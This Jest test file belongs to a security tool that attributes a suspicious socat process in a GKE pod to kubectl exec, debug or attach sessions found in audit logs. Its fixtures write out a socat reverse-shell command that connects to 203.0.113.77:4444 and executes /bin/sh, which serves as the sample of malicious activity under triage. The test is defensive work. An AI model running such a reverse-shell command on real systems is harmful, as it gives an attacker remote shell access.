/**
 * Who started socat, on the audit entries GKE really writes
 * (test/fixtures/gke-audit/, from public samples): each case is read through
 * the real Logging client from the emulator by the audit-log gatherer, then
 * decided as the function decides it. One case per way the earlier picture of
 * GKE broke (issue 12).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { createLoggingClient, type LoggingClient } from '../../lib/clients.js';
import { parseVerdictSettings } from '../../lib/decide/verdict-settings.js';
import { parseNotification } from '../../lib/finding/parse.js';
import { noCache } from '../../lib/gather/cache.js';
import type { GatherSettings } from '../../lib/gather/deps.js';
import { auditLogs } from '../../lib/gather/logs.js';
import type { AuditLogSection, GatheredSections } from '../../lib/gather/sections.js';
import type { GatherContext } from '../../lib/gather/types.js';
import { analyzeFinding } from '../../lib/report/analyze.js';
import { startLoggingEmulator, type LoggingEmulator, type SeedLogEntry } from '../emulators/logging-emulator.js';
import { notificationFixture } from '../support/fixtures.js';
import { testGatherDeps } from '../support/gather-deps.js';
import { gkeLogFixture, retarget, toSeed, type GkeLogFixture, type Retarget } from '../support/gke-audit.js';

const NOTIFICATION = notificationFixture('socat-v2');
const TARGET: Retarget = {
  project: 'shop-prod-4711',
  cluster: 'shop-prod',
  location: 'us-central1',
  namespace: 'shop',
  pod: 'checkout-7d9fb6c5d4-x2lqp',
  eventTime: '2026-11-27T02:41:17.532941Z',
};
const SETTINGS: GatherSettings = {
  relatedWindowMinutes: 60,
  logWindowBeforeMinutes: 30,
  logWindowAfterMinutes: 15,
  logEntriesMax: 200,
  logPagesMax: 5,
  logExcerptEntries: 2,
  logLineMaxChars: 160,
};
const VERDICT = parseVerdictSettings({ ADMIN_PRINCIPALS: 'alice@shop-prod.example,bob@shop-prod.example' });

let emulator: LoggingEmulator;
let client: LoggingClient;

beforeAll(async () => {
  emulator = await startLoggingEmulator();
  client = await createLoggingClient({ loggingEmulatorHost: emulator.endpoint });
});
afterAll(async () => {
  await client.close();
  await emulator.stop();
});
beforeEach(() => emulator.reset());

/** The socat-v2 finding with its process list replaced (oldest ancestor first, socat last). */
function finding(processes?: Array<{ name: string; path: string; args: string[]; pid: number; parentPid: number }>) {
  const n = structuredClone(NOTIFICATION);
  if (processes) {
    n.finding.processes = processes.map((p) => ({ name: p.name, binary: { path: p.path }, args: p.args, pid: String(p.pid), parentPid: String(p.parentPid) }));
  }
  return parseNotification(n);
}

const SOCAT = { name: 'socat', path: '/usr/bin/socat', args: ['socat', 'TCP:203.0.113.77:4444', 'EXEC:/bin/sh'], pid: 4120, parentPid: 4101 };
const JAVA_SH_SOCAT = [
  { name: 'java', path: '/opt/java/openjdk/bin/java', args: ['java', '-jar', '/app/checkout.jar'], pid: 1, parentPid: 0 },
  { name: 'sh', path: '/bin/sh', args: ['sh', '-c', 'socat TCP:203.0.113.77:4444 EXEC:/bin/sh'], pid: 4101, parentPid: 1 },
  SOCAT,
];
// What an exec'd shell looks like from inside the container: its parent is outside the pid namespace (docs/attribution-research.md).
const EXEC_SH_SOCAT = [{ name: 'sh', path: '/bin/sh', args: ['/bin/sh'], pid: 4101, parentPid: 0 }, SOCAT];

function entries(name: GkeLogFixture, edit: (e: Record<string, any>) => void = () => {}): SeedLogEntry[] {
  return gkeLogFixture(name).map((e) => {
    const moved = retarget(e, TARGET);
    edit(moved);
    return toSeed(moved);
  });
}

async function triage(seeds: SeedLogEntry[], processes: Parameters<typeof finding>[0], settings: Partial<GatherSettings> = {}) {
  emulator.seed(seeds);
  const f = finding(processes);
  const gaps: string[] = [];
  const ctx: GatherContext<ReturnType<typeof testGatherDeps>, GatheredSections> = {
    finding: f,
    signal: new AbortController().signal,
    deps: testGatherDeps({ settings: { ...SETTINGS, ...settings }, now: () => new Date('2026-11-27T03:00:00Z'), ownSourceName: null, logging: async () => client, cache: noCache }),
    sections: {},
    addGap: (reason) => gaps.push(reason),
  };
  const audit: AuditLogSection = await auditLogs.gather(ctx);
  const report = analyzeFinding(f, { sections: { auditLogs: audit }, gaps: [] }, { verdict: VERDICT, attributionWindowMinutes: 30 });
  return { audit, report, signals: report.verdict.reasons.map((r) => r.signal) };
}

describe('who started socat, on GKE-shaped audit entries', () => {
  test('a kubectl >= 1.30 exec, logged as pods.exec.get (WebSocket), is the session that explains socat', async () => {
    const seeds = entries('exec-websocket', (e) => (e.labels['command.gke.io/command'] = '/bin/sh'));
    const { audit, report, signals } = await triage(seeds, EXEC_SH_SOCAT);
    expect(audit.execs.map((x) => [x.kind, x.method, x.principal])).toEqual([['exec', 'io.k8s.core.v1.pods.exec.get', 'alice@shop-prod.example']]);
    expect(report.attribution.kind).toBe('interactive_exec_by_person');
    expect(report.attribution.exec?.userAgent).toMatch(/^kubectl\/v1\.33\./);
    expect(signals).toContain('exec_by_admin');
    expect(signals).not.toContain('no_exec_found');
  });

  test('the method name is matched without regard to case', async () => {
    const seeds = entries('exec-websocket', (e) => {
      e.protoPayload.methodName = 'io.k8s.core.v1.pods.EXEC.Get';
      e.labels['command.gke.io/command'] = 'bash';
    });
    expect((await triage(seeds, EXEC_SH_SOCAT)).report.attribution.kind).toBe('interactive_exec_by_person');
  });

  test("an allow-listed admin's refused exec (status 7, decision forbid) is a refused attempt, never the explanation", async () => {
    const { audit, report, signals } = await triage(entries('exec-refused'), EXEC_SH_SOCAT);
    expect(audit.execs).toEqual([]);
    expect(audit.refused).toMatchObject([{ kind: 'exec', principal: 'bob@shop-prod.example', statusCode: 7, reason: 'Forbidden' }]);
    expect(report.attribution.kind).toBe('no_exec_found');
    expect(signals).toEqual(expect.arrayContaining(['refused_pod_entry', 'no_exec_found']));
    expect(signals).not.toContain('exec_by_admin');
    expect(report.verdict.level).not.toBe('likely_benign_admin');
  });

  test("an admin's exec does not explain socat that the application started (java → sh → socat)", async () => {
    const { report, signals } = await triage(entries('exec-spdy'), JAVA_SH_SOCAT);
    expect(report.attribution.kind).toBe('no_exec_found');
    expect(report.attribution.considered).toMatchObject([{ taken: false, reason: expect.stringContaining('shows the application') }]);
    expect(signals).not.toContain('exec_by_admin');
    expect(report.verdict.level).not.toBe('likely_benign_admin');
  });

  test('an exec whose recorded command cannot lead to socat (sh -c ps aux) does not explain it', async () => {
    const { report } = await triage(entries('exec-websocket'), EXEC_SH_SOCAT);
    expect(report.attribution.kind).toBe('no_exec_found');
    expect(report.attribution.considered[0]?.reason).toContain('neither mentions socat nor starts further programs');
  });

  test('kubectl debug (pods.ephemeralcontainers.patch) and kubectl attach are sessions too', async () => {
    const debug = await triage(entries('debug-ephemeral'), EXEC_SH_SOCAT);
    expect(debug.audit.execs.map((x) => x.kind)).toEqual(['debug']);
    emulator.reset();
    const attach = await triage(entries('attach'), EXEC_SH_SOCAT);
    // The WebSocket attach (get) goes to the Data Access log, which is not read: only the SPDY one is seen.
    expect(attach.audit.execs.map((x) => [x.kind, x.method])).toEqual([['attach', 'io.k8s.core.v1.pods.attach.create']]);
  });

  test('no exec found in a read that did not reach every entry is unavailable, not evidence', async () => {
    // Entries naming the pod on both sides of the admin's exec: whichever end a read starts from, two entries do not reach it.
    const at = (minutes: number) => new Date(Date.parse(TARGET.eventTime) + minutes * 60_000).toISOString();
    const filler = (minutes: number, i: number) => entries('exec-refused', (e) => ((e.timestamp = at(minutes)), (e.insertId = `filler-${i}`)));
    const many = [-25, -24, -23, -22, -21, -5, -4, -3, -2, -1].flatMap(filler);
    const { audit, report, signals } = await triage([...many, ...entries('exec-spdy')], EXEC_SH_SOCAT, { logEntriesMax: 2 });
    expect(audit.truncated).toBe(true);
    expect(report.attribution.kind).toBe('unknown');
    expect(signals).not.toContain('no_exec_found');
    expect(report.verdict.unavailable.some((u) => u.startsWith('attribution:') && u.includes('absence proves nothing'))).toBe(true);
  });
});
